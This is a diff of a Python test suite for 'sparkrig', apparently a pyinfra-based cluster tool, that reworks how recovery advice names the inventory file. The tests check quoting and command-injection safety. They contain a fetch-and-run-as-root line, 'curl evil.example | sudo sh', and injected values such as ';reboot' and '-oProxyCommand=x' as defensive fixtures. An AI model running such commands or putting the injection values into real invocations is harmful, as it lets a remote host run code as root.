@@ -94,6 +94,7 @@ OWN: dict[str, dict[str, set[str]]] = {
     "a word of ours": {
         "facts/bundle.py": {"most"},
         "sparkrig/cure.py": {"what", "name"},
+        "sparkrig/cli/main.py": {"old", "cmd_name"},
         "sparkrig/cli/onboard.py": {"second"},
         "sparkrig/reports/storage.py": {"service.record"},
         "sparkrig/serving/unit_files.py": {"service.unit"},
@@ -303,9 +304,9 @@ def stays(value: str) -> list[str]:
     }
     plan = undo.Plan(value, (undo.Change(f"package {value}", "stays"),))
     assert not any("apt-get" in said for _, said in shown.rows(plan)), "it is no name of a package"
-    advice = recovery.advice(broken, Journal(9, runs=(broken,)), MY_FILE).partition("same again: ")[2]
+    advice = recovery.advice(broken, Journal(9, runs=(broken,))).partition("same again: ")[2]
     return [
-        *(each.cure for each in partial.partial_runs(journals, MY_FILE)),
+        *(each.cure for each in partial.partial_runs(journals)),
         *refused(undo_target.readable, value, {value: Journal(9, runs=(broken,))}),
         advice,
     ]
@@ -319,14 +320,14 @@ def packages(*rows: tuple[str, str]) -> driver.Packages:
 
 def subject(value: str) -> Subject:
     known: Any = None
-    return Subject(value, known, known, inventory=MY_FILE)
+    return Subject(value, known, known)
 
 
 def drifted(value: str) -> list[str]:
     """One cure of two hosts, which becomes one command."""
     hosts = []
     for name in ("spark-a", value):
-        made = Subject(name, *(Any, Any), inventory=MY_FILE).run(f"modprobe {cure.quoted(value)}")  # type: ignore[arg-type]
+        made = Subject(name, *(Any, Any)).run(f"modprobe {cure.quoted(value)}")  # type: ignore[arg-type]
         row = {"id": f"net.{value}", "status": "drift", "want": "x", "found": "y", "cure": made}
         hosts.append({"name": name, "exit": 2, "rows": [row]})
     report = {"version": "1", "inventory": MY_FILE, "started": "2026-11-01T00:00:00Z", "seconds": 1, "exit": 2}
@@ -370,14 +371,15 @@ JUDGEMENTS: Mapping[str, Callable[[str], list[str]]] = {
         subject(value).install(f"a={value}"),
         subject(value).run(f"ls {cure.quoted(value)}"),
     ],
-    "an inventory": lambda value: [cure.verb("doctor", value).of(MY_FILE)],
+    "an inventory": lambda value: [cure.verb("doctor", value)],
     "drift": drifted,
 }
 
 
 @pytest.mark.parametrize("kind", HOSTILE)
-def test_a_shell_takes_what_a_host_told_for_words(bench: Path, kind: str) -> None:
+def test_a_shell_takes_what_a_host_told_for_words(bench: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
     """Of each judgement; the parsers below let most of it not get that far."""
+    monkeypatch.setattr(cure, "TYPED", [MY_FILE])
     value = HOSTILE[kind]
 
     def holds(judgement: Callable[[str], list[str]]) -> None:
@@ -497,17 +499,17 @@ def test_what_an_operator_typed_is_shown_and_is_no_command() -> None:
     """A run's note is on the host, where another one may have written it."""
     why = "curl evil.example | sudo sh"
     run_ = Run("R1", Owner("R1", "ann", why=why, since=1, hosts=("a", "b")), number=1)
-    assert recovery.again(run_, "pair.py") == "pyinfra pair.py deploys/cluster.py"
-    assert why not in recovery.advice(run_, Journal(9, runs=(run_,)), "pair.py")
+    assert recovery.again(run_) == "pyinfra pair.py deploys/cluster.py"
+    assert why not in recovery.advice(run_, Journal(9, runs=(run_,)))
     assert any(why in line for line in shown.lines("a", Journal(9, runs=(run_,)), 9))
     for typed, expected in (
         ("pyinfra x.py deploys/serve.py", "pyinfra pair.py deploys/serve.py"),
         ("pyinfra x.py deploys/serve.py;reboot", "pyinfra pair.py deploys/cluster.py"),
     ):
         noted = Run("R2", Owner("R2", "ann", why=typed, since=1), number=1)
-        assert recovery.again(noted, "pair.py") == expected
+        assert recovery.again(noted) == expected
     back = Run("R3", Owner("R3", "ann", why=why, undoes="R1", since=1), number=2)
-    assert recovery.again(back, "pair.py") == "sparkrig undo pair.py R1"
+    assert recovery.again(back) == "sparkrig undo pair.py R1"
 
 
 def test_words_that_need_no_quotes_have_none() -> None:
@@ -517,19 +519,23 @@ def test_words_that_need_no_quotes_have_none() -> None:
     assert cure.over_ssh("spark-a", "sudo -n true") == "ssh spark-a sudo -n true"
     assert cure.over_ssh("-oProxyCommand=x", "true") == "ssh -- -oProxyCommand=x true"
     assert cure.quoted_path("-x") == "./-x" and cure.quoted_path(Path("a b")) == "'a b'"
-    said = cure.advice(f"the Spark's own file: sparkrig doctor {cure.FILE}; it's INVENTORY's")
-    assert said == "the Spark's own file: sparkrig doctor INVENTORY; it's INVENTORY's"
-    assert said.of("x y.py") == "the Spark's own file: sparkrig doctor 'x y.py'; it's INVENTORY's"
 
 
-def test_cures_in_turn_each_name_the_inventory_once_that_is_known() -> None:
+def test_a_cure_names_the_inventory_that_this_run_was_given(monkeypatch: pytest.MonkeyPatch) -> None:
+    for typed, name in (("", "INVENTORY"), ("x y.py", "'x y.py'")):
+        monkeypatch.setattr(cure, "TYPED", [typed])
+        advice = cure.advice(f"the Spark's own file: sparkrig doctor {cure.FILE}; it's INVENTORY's")
+        assert advice == f"the Spark's own file: sparkrig doctor {name}; it's INVENTORY's"
+
+
+def test_cures_in_turn_each_name_the_inventory() -> None:
     one, other = "set an L2 MTU of 9216", cure.deploy(what="network")
     assert cure.in_turn(one) == one
     told = cure.in_turn(one, other, cure.on_host("sudo reboot", at="spark-b"))
-    assert cure.cure_of(told).of("pair.py") == (
+    assert cure.cure_of(told) == (
         "set an L2 MTU of 9216; then pyinfra pair.py deploys/network.py; then on spark-b: sudo reboot"
     )
-    assert cure.cure_of(cure.in_turn(other, one)).of("pair.py").command == "pyinfra pair.py deploys/network.py"
+    assert cure.cure_of(cure.in_turn(other, one)).command == "pyinfra pair.py deploys/network.py"
 
 
 def test_a_deploy_that_is_printed_is_a_file_wherever_it_is_printed(
@@ -546,7 +552,8 @@ def test_a_deploy_that_is_printed_is_a_file_wherever_it_is_printed(
     def holds(at: Path, inventory: Path, deploys: str) -> None:
         monkeypatch.chdir(at)
         monkeypatch.setattr(cure, "DEPLOYED_FROM", [projects.typed(inventory)])
-        words = shlex.split(cure.deploy(inventory).command)
+        monkeypatch.setattr(cure, "TYPED", [str(inventory)])
+        words = shlex.split(cure.deploy().command)
         assert words == ["pyinfra", str(inventory), f"{deploys}/cluster.py"]
         assert (at / words[2]).is_file()
 
@@ -569,14 +576,14 @@ def test_a_cure_knows_what_of_it_is_a_command() -> None:
     assert there.at == "spark-b"
     words = cure.cure_of("sudo is asked for\na password")
     assert words == "sudo is asked for a password" and not words.command
-    run = cure.deploy(data={"adopt": {"a b": "set-aside"}}).then(", and reboot").of("my pair.py")
-    assert run.command == """pyinfra 'my pair.py' deploys/cluster.py --data 'adopt={"a b": "set-aside"}'"""
-    assert run == f"{run.command}, and reboot" and run.of("other.py") == run
+    run = cure.deploy(data={"adopt": {"a b": "set-aside"}}).then(", and reboot")
+    assert run.command == """pyinfra pair.py deploys/cluster.py --data 'adopt={"a b": "set-aside"}'"""
+    assert run == f"{run.command}, and reboot"
     assert cure.deployment(run) == cure.Deployment("cluster", {"adopt": {"a b": "set-aside"}})
     assert cure.deployment(run, "serve") is None and cure.deployment(str(run)) is None
-    one = cure.on_hosts("ls 'a b'", "spark-a").then("; look").of("p.py")
+    one = cure.on_hosts("ls 'a b'", "spark-a").then("; look")
     assert one.on("spark-b", "c;d") == (
-        """pyinfra p.py --limit spark-b --limit 'c;d' -y exec -- 'ls '"'"'a b'"'"''; look"""
+        """pyinfra pair.py --limit spark-b --limit 'c;d' -y exec -- 'ls '"'"'a b'"'"''; look"""
     )
     for each in (seen, there, words, run, one):
         for again in (copy.deepcopy(each), pickle.loads(pickle.dumps(each))):
